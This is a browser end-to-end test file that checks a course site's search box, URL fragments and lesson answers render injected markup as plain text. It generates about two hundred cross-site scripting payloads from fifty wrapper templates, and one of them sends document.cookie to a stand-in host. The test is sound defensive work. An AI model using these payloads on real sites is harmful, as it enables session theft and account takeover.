/** Row 44: markup wherever a person or an address can put it stays text. */
import { choose, showQuestion } from '../e2e/answering.ts';
import { authoredLessons, LESSON } from '../e2e/authored.ts';
import { addFact, expect, test } from './stage.ts';

const calls = ['alert(1)', 'confirm`1`', 'top.owned=1', 'fetch("//e.test/"+document.cookie)'];
const shells: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `"><script>${call}</script>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `"><img src=x onerror="${call}">`,
  (call) => `'><svg/onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<iframe srcdoc="<script>${call}</script>">`,
  (call) => `<iframe src="javascript:${call}">`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<body onpageshow=${call}>`,
  (call) => `<math><mi//xlink:href="data:x,<script>${call}</script>">`,
  (call) => `<style>@import 'javascript:${call}';</style>`,
  (call) => `<link rel=stylesheet href="data:text/css,*{x:expression(${call})}">`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<object data="javascript:${call}">`,
  (call) => `<form action="javascript:${call}"><button>x</button></form>`,
  (call) => `<marquee onstart=${call}>`,
  (call) => `<template shadowrootmode=open><script>${call}</script></template>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `javascript:${call}`,
  (call) => `\${${call}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `' onmouseover='${call}`,
  (call) => `" autofocus onfocus="${call}`,
  (call) => `\u202e<scr\u0000ipt>${call}</scr\u0000ipt>`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `<!--><script>${call}</script>-->`,
  (call) => `<![CDATA[<script>${call}</script>]]>`,
  (call) => `<x id=location onclick=${call}>click`,
  (call) => `<img srcset="x 1x" onerror=${call}//`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<embed src="data:image/svg+xml,<svg onload=${call}>">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<textarea autofocus onfocus=${call}>`,
  (call) => `<select onfocus=${call} autofocus>`,
  (call) => `<keygen autofocus onfocus=${call}>`,
  (call) => `<p style="animation:x" onanimationstart="${call}">`,
  (call) => `<audio src onerror=${call}>`,
  (call) => `<isindex type=image src=1 onerror=${call}>`,
  (call) => `<table background="javascript:${call}">`,
  (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  (call) => `<ScRiPt >${call}</sCrIpT>`,
  (call) => `<img/src="x"/onerror=\u000b${call}>`,
];
const payloads = shells.flatMap((shell) => calls.map(shell));

test('two hundred payloads in search, address and answer stay text @row-44', async ({
  page,
  complaints,
}, testInfo) => {
  let dialogs = 0;
  page.on('dialog', (dialog) => {
    dialogs += 1;
    void dialog.dismiss();
  });
  await page.goto('search/');
  const elements = () =>
    page.locator('main *').evaluateAll((all) => all.map(({ tagName }) => tagName));
  const box = page.getByRole('searchbox');
  const known = new Set(await elements());
  await page.evaluate(async (all) => {
    const input = document.querySelector<HTMLInputElement>('course-search input');
    for (const payload of all) {
      if (input) input.value = payload;
      input?.form?.requestSubmit();
      await new Promise((next) => setTimeout(next, 100));
    }
  }, payloads);
  const seen = (await elements()).filter((name) => !known.has(name));
  // What a hit is made of, and nothing that executes or loads.
  expect(seen.filter((name) => !/^(?:LI|A|P|MARK|H2|H3|SPAN|OL|UL|STRONG)$/.test(name))).toEqual(
    [],
  );

  for (const payload of payloads.filter((_, index) => index % 20 === 0)) {
    await page.goto(`search/?q=${encodeURIComponent(payload)}#${encodeURIComponent(payload)}`);
    await expect(box).toHaveValue(payload.replace(/[\r\n]/g, ''));
  }
  await page.goto(`${LESSON}/#${encodeURIComponent(payloads[4] ?? '')}`);

  const rewrite = authoredLessons
    .flatMap(({ path, questions }) => questions.map((question) => ({ path, question })))
    .find(({ question }) => question.kind === 'rewrite');
  if (!rewrite) throw new Error('No lesson asks for a sentence of one’s own');
  await page.goto(`${rewrite.path}/`);
  const asked = await showQuestion(page, rewrite.question);
  await choose(asked, [payloads[0] ?? '', '0']);
  await page.reload();
  await showQuestion(page, rewrite.question);

  expect(dialogs).toBe(0);
  expect(await page.evaluate(() => 'owned' in window)).toBe(false);
  const reports = complaints.heard.filter((words) => words.startsWith('console: policy:'));
  expect(reports).toEqual([]);
  addFact(testInfo, 'hostile texts', `${payloads.length}, 0 dialogs, ${reports.length} reports`);
});
